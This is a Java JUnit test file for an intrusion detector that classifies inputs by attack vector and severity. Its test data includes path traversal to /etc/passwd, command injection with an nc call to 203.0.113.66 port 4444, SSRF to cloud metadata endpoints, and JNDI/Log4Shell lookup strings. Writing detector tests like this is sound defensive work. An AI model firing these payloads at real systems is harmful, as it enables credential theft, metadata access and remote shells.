package dev.aisd.observability.sample.security;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class IntrusionDetectorTests {

	private final IntrusionDetector detector = new IntrusionDetector();

	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '"', value = { "../../../../etc/passwd|path_traversal|high",
			"..\\..\\windows\\win.ini|path_traversal|high", "/etc/shadow|path_traversal|high",
			"; cat /etc/passwd|command_injection|critical", "$(whoami)|command_injection|critical",
			"127.0.0.1 && nc 203.0.113.66 4444|command_injection|critical", "`id`|command_injection|critical",
			"http://169.254.169.254/latest/meta-data/|ssrf|high", "https://localhost:8080/actuator/env|ssrf|high",
			"http://127.0.0.1/|ssrf|high", "http://[::1]:9000/|ssrf|high", "file:///etc/hosts|ssrf|high",
			"gopher://203.0.113.66:25/_HELO|ssrf|high", "http://metadata.google.internal/computeMetadata/v1/|ssrf|high",
			"${jndi:ldap://203.0.113.66/a}|jndi_injection|critical", "${ JNDI:rmi://x/y}|jndi_injection|critical" })
	void detectWhenAttackThenVectorAndSeverity(String value, String vector, String severity) {
		IntrusionDetector.Rule rule = this.detector.detect(value);
		assertThat(rule).isNotNull();
		assertThat(rule.attackVector()).isEqualTo(vector);
		assertThat(rule.severity()).isEqualTo(severity);
		assertThat(rule.score()).isBetween(0.0, 1.0);
	}

	@ParameterizedTest
	@ValueSource(strings = { "lantern", "..", "1.2.3", "rope & compass", "https://example.com/image.png",
			"http://localhost.example.com/", "catalogue", "idle; cattle", "$5 off", "café", "a/b/c",
			"http://127.0.0.1.nip.io.example.com/" })
	void detectWhenOrdinaryValueThenNothing(String value) {
		assertThat(this.detector.detect(value)).isNull();
	}

	@Test
	void detectWhenNullOrEmptyThenNothing() {
		assertThat(this.detector.detect(null)).isNull();
		assertThat(this.detector.detect("")).isNull();
	}

	@Test
	void detectWhenAttackBeyondInspectedLengthThenNotSeen() {
		String padded = "a".repeat(IntrusionDetector.MAX_INSPECTED_LENGTH) + "../../etc/passwd";
		assertThat(this.detector.detect(padded)).isNull();
	}

	@Test
	void detectWhenHugeHostileValueThenAnswersQuickly() {
		// Many partial matches must not make the patterns backtrack badly.
		assertThat(this.detector.detect("$(".repeat(100_000))).isNull();
		assertThat(this.detector.detect(";".repeat(100_000) + " cat")).isNull();
	}

}
